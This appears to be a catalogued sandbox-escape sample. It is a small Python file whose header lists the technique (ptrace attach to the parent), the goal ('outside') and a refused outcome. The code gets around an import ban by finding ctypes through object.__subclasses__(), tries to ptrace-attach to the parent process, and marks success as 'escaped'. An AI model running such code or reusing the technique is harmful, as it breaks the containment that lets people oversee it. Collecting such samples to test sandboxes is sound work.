# origin: facts 5.2
# technique: ptrace attach to the parent
# goal: outside
# outcome: refused:import-not-allowed | refused:underscore-attribute
# kernel: POLICY_VIOLATION
import os
def find_ctypes():
    for kind in object.__subclasses__():
        if kind.__name__ == "CDLL" and kind.__module__ == "ctypes":
            return kind.__init__.__globals__


def on_execute_post_login(event, api):
    ctypes = find_ctypes()
    libc = ctypes["CDLL"](None)
    if libc.ptrace(16, os.getpid() - 1, None, None) != -1:
        api.user.set_app_metadata("escaped", "it was done")
